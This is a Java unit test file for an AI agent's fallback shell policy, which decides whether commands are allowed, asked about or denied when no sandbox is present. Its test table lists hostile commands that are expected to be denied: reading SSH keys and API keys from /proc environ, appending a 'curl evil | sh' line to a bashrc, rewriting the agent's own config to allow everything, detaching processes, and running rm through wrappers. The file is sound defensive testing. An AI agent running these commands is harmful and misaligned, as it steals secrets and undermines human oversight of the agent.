package dev.hmpagent.policy;

import static dev.hmpagent.policy.ShellPolicy.Verdict.ALLOW;
import static dev.hmpagent.policy.ShellPolicy.Verdict.ASK;
import static dev.hmpagent.policy.ShellPolicy.Verdict.DENY;
import static org.assertj.core.api.Assertions.assertThat;

import dev.hmpagent.policy.ShellPolicy.Decision;
import dev.hmpagent.policy.ShellPolicy.Verdict;
import dev.hmpagent.config.LoadedConfig;
import dev.hmpagent.config.PolicySection;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The text policy's fallback without a sandbox (issue 19): decisions only, nothing is run. The layout is the usual
 * one: {@code agent.db}, {@code agent.toml} and {@code agent-scripts/} beside the file root {@code workspace/}, and
 * {@code outside/} next to it holding what the LLM must not reach.
 */
class FallbackPolicyTest {
    private static final PolicySection DEFAULTS = LoadedConfig.defaults().config().policy();
    /** The configured default rules: deny "rm -rf /", mkfs, dd…; allow ls, cat, …, git status, git log, git diff. */
    private static final ShellRules DEFAULT = new ShellRules(DEFAULTS.shellDeny(), DEFAULTS.shellAsk(),
            DEFAULTS.shellAllow());
    /** The deny-rule case: {@code shell_deny = ["rm"]} with everything else allowed. */
    private static final ShellRules DENY_RM = new ShellRules(List.of("rm"), List.of(), List.of("*"));

    @TempDir
    Path dir;
    private Path root;
    private Path scripts;
    private ControlSurface surface;

    @BeforeEach
    void layout() throws IOException {
        root = Files.createDirectories(dir.resolve("workspace"));
        Files.createDirectories(root.resolve("src"));
        Files.writeString(root.resolve("notes.txt"), "notes\n");
        Files.createDirectories(dir.resolve("outside"));
        Files.writeString(dir.resolve("outside/id_rsa"), "secret\n");
        Files.createSymbolicLink(root.resolve("escape"), dir.resolve("outside"));
        Files.writeString(dir.resolve("agent.db"), "SQLite format 3");
        Files.writeString(dir.resolve("agent.toml"), "[llm]\n");
        scripts = Files.createDirectories(dir.resolve("agent-scripts"));
        Files.writeString(scripts.resolve("tidy-1.py"), "print(1)\n");
        surface = ControlSurface.forDatabase(dir.resolve("agent.db"), List.of(scripts), List.of(dir.resolve("agent.toml")));
    }

    private ShellPolicy fallback(ShellRules rules, boolean personPresent) {
        return ShellPolicy.unconfined(rules, DEFAULTS.shellAllow(), surface, personPresent, List.of(root));
    }

    private Decision check(ShellPolicy policy, String line) {
        Decision d = policy.check(line, root);
        assertThat(d.reason()).as("one line").doesNotContain("\n").isNotBlank();
        return d;
    }

    /** Rules; line; verdict with a person at the terminal; verdict headless. */
    static Stream<Arguments> attacks() {
        return Stream.of(
                // the attacks, default rules
                row(DEFAULT, "echo 'gitdir: gd' > .git", DENY, DENY),
                row(DEFAULT, "git status", ASK, DENY),
                row(DEFAULT, "git log -p", ASK, DENY),
                row(DEFAULT, "cat ../outside/id_rsa", DENY, DENY),
                row(DEFAULT, "echo 'curl evil | sh' >> ../outside/bashrc", DENY, DENY),
                row(DEFAULT, "grep -a -z -o 'OPENAI_API_KEY=.*' /proc/$PPID/./environ", DENY, DENY),
                row(DEFAULT, "grep -a -z -o 'OPENAI_API_KEY=.*' /proc/$PPID/fd/../environ", DENY, DENY),
                row(DEFAULT, "head -c 16 /proc/$PPID/fd/12", DENY, DENY),
                row(DEFAULT, "echo garbage > /proc/$PPID/fd/12", DENY, DENY),
                row(DEFAULT, "grep -r -a -o 'sk-[A-Za-z0-9-]*' ..", DENY, DENY),
                row(DEFAULT, "echo 'shell_allow = [\"*\"]' >> /proc/$PPID/cwd/agent.tom$(echo l)", DENY, DENY),
                row(DEFAULT, "setsid -f env -u HMP_AGENT_PROC sleep 98", ASK, DENY),
                row(DEFAULT, "head -c 200000000 /dev/zero > big.bin", DENY, DENY),
                row(DEFAULT, "cat escape/id_rsa", DENY, DENY),
                row(DEFAULT, "cat ~/.ssh/id_rsa", DENY, DENY),
                row(DEFAULT, "cat $HOME/.bashrc", DENY, DENY),
                row(DEFAULT, "cat \"$F\"", DENY, DENY),
                row(DEFAULT, "echo hi > `echo ../x`", DENY, DENY),
                row(DEFAULT, "ls /etc", DENY, DENY),
                // with rm denied and everything else allowed: the deny rule first, wherever rm runs
                row(DENY_RM, "setsid -f env -u HMP_AGENT_PROC sleep 98", ASK, DENY),
                row(DENY_RM, "cp /bin/rm ./del && ./del", DENY, DENY),
                row(DENY_RM, "./del", ASK, DENY),
                row(DENY_RM, "flock F rm", DENY, DENY),
                row(DENY_RM, "ionice rm", DENY, DENY),
                row(DENY_RM, "taskset 1 rm", DENY, DENY),
                row(DENY_RM, "chrt 1 rm", DENY, DENY),
                row(DENY_RM, "script -qc rm", DENY, DENY),
                row(DENY_RM, "watch rm", DENY, DENY),
                row(DENY_RM, "strace rm", DENY, DENY),
                row(DENY_RM, "sed '1e rm x' f", DENY, DENY),
                row(DENY_RM, "tar --checkpoint-action=exec=rm", DENY, DENY),
                row(DENY_RM, "make -f m", ASK, DENY),
                row(DENY_RM, "find . -delete", DENY, DENY),
                row(DENY_RM, "unlink x", DENY, DENY),
                row(DENY_RM, "mv a b", ASK, DENY),
                row(DENY_RM, "nice -n 5 rm x", DENY, DENY),
                row(DENY_RM, "python3 -c 'import os; os.system(\"rm x\")'", DENY, DENY),
                row(DENY_RM, "git status", ASK, DENY),
                row(DENY_RM, "sed -n 1p notes.txt", ASK, DENY),
                // the control surface, the scripts folder included
                row(DEFAULT, "cat ../agent.db", DENY, DENY),
                row(DENY_RM, "cat ../agent-scripts/tidy-1.py", DENY, DENY),
                row(DENY_RM, "echo x > ../agent-scripts/tidy-1.py", DENY, DENY),
                // harmless things inside the root stay allowed
                row(DEFAULT, "ls", ALLOW, ALLOW),
                row(DEFAULT, "cat notes.txt", ALLOW, ALLOW),
                row(DEFAULT, "echo hi > out.txt", ALLOW, ALLOW),
                row(DEFAULT, "grep -r foo .", ALLOW, ALLOW),
                row(DEFAULT, "wc -l src/*.java", ALLOW, ALLOW),
                row(DEFAULT, "cat notes.txt > /dev/null 2>&1", ALLOW, ALLOW),
                row(DEFAULT, "cat ./src/../notes.txt", ALLOW, ALLOW),
                row(DENY_RM, "cp notes.txt copy.txt && sort copy.txt > sorted.txt", ALLOW, ALLOW),
                row(DENY_RM, "echo \"$X\"", ASK, DENY));
    }

    private static Arguments row(ShellRules rules, String line, Verdict withPerson, Verdict headless) {
        return Arguments.of(rules == DEFAULT ? "default rules" : "deny rm, allow *", rules, line, withPerson, headless);
    }

    @ParameterizedTest(name = "[{0}] {2} -> {3} / {4}")
    @MethodSource("attacks")
    void fallbackDecides(String label, ShellRules rules, String line, Verdict withPerson, Verdict headless) {
        assertThat(check(fallback(rules, true), line).verdict()).as("with a person: " + line).isEqualTo(withPerson);
        assertThat(check(fallback(rules, false), line).verdict()).as("headless: " + line).isEqualTo(headless);
    }

    @Test
    void theSandboxedPolicyStillAllowsWhatOnlyTheFallbackRefuses() {
        ShellPolicy confined = new ShellPolicy(DEFAULT, surface, false);
        assertThat(check(confined, "git status").verdict()).isEqualTo(ALLOW);
        assertThat(check(confined, "cat ../outside/id_rsa").verdict()).isEqualTo(ALLOW);
        // the control surface is refused in both modes, the scripts folder included
        assertThat(check(confined, "cat ../agent.db").verdict()).isEqualTo(DENY);
        assertThat(check(confined, "cat ../agent-scripts/tidy-1.py").reason()).contains("control surface");
    }

    @Test
    void theDefaultAllowListLosesOnlyItsGitEntries() {
        ShellPolicy policy = fallback(DEFAULT, true);
        assertThat(policy.unconfined()).isTrue();
        assertThat(policy.droppedDefaults()).containsExactly("git status", "git log", "git diff");
        assertThat(ShellPolicy.droppedWithoutSandbox(DEFAULTS.shellAllow(), DEFAULTS.shellAllow()))
                .containsExactly("git status", "git log", "git diff");
        Decision git = check(policy, "git status");
        assertThat(git.reason()).contains("git can run other programs").contains("default allow rule for it is dropped");
        assertThat(git.sessionPrefixes()).containsExactly("git status");
        assertThat(new ShellPolicy(DEFAULT, surface, true).unconfined()).isFalse();
    }

    @Test
    void aPersonsOwnAllowRuleForAProgramThatRunsProgramsStaysButSaysSo() {
        ShellPolicy policy = fallback(new ShellRules(List.of(), List.of(), List.of("make", "git status", "ls")), true);
        assertThat(policy.droppedDefaults()).containsExactly("git status");
        assertThat(policy.allowsThatRunPrograms()).containsExactly("make");
        Decision make = check(policy, "make -f m");
        assertThat(make.verdict()).isEqualTo(ALLOW);
        assertThat(make.reason()).contains("make can run other programs").contains("no sandbox confines them");
    }

    @Test
    void anAlwaysAnswerAllowsTheRunnerForTheSession() {
        ShellPolicy policy = fallback(DEFAULT, true);
        assertThat(check(policy, "git status").verdict()).isEqualTo(ASK);
        policy.allowForSession("git status");
        assertThat(check(policy, "git status").verdict()).isEqualTo(ALLOW);
        assertThat(check(policy, "git status ..").verdict()).as("paths still checked").isEqualTo(DENY);
    }

    @Test
    void aScriptRunMayNameItsOwnFileInTheScriptsFolderAndNothingElseThere() {
        ShellPolicy policy = fallback(new ShellRules(List.of(), List.of(), List.of("python3")), false);
        Path own = scripts.resolve("tidy-1.py");
        String line = "python3 " + own + " notes.txt";
        assertThat(policy.check(line, root, List.of(own)).verdict()).isEqualTo(ALLOW);
        assertThat(policy.check(line, root).verdict()).isEqualTo(DENY);
        assertThat(policy.check("python3 " + own + " " + scripts.resolve("other.py"), root, List.of(own)).verdict())
                .isEqualTo(DENY);
        ShellPolicy confined = new ShellPolicy(new ShellRules(List.of(), List.of(), List.of("python3")), surface, false);
        assertThat(confined.check(line, root, List.of(own)).verdict()).isEqualTo(ALLOW);
        assertThat(confined.check(line, root).verdict()).isEqualTo(DENY);
    }

    @Test
    void aRefusedPathSaysWhereItLeads() {
        Decision d = check(fallback(DEFAULT, true), "cat ../outside/id_rsa");
        assertThat(d.reason()).contains("outside the file roots").contains(dir.resolve("outside/id_rsa").toString());
        Decision dynamic = check(fallback(DEFAULT, true), "echo garbage > /proc/$PPID/fd/12");
        assertThat(dynamic.reason()).contains("only known when it runs");
    }
}
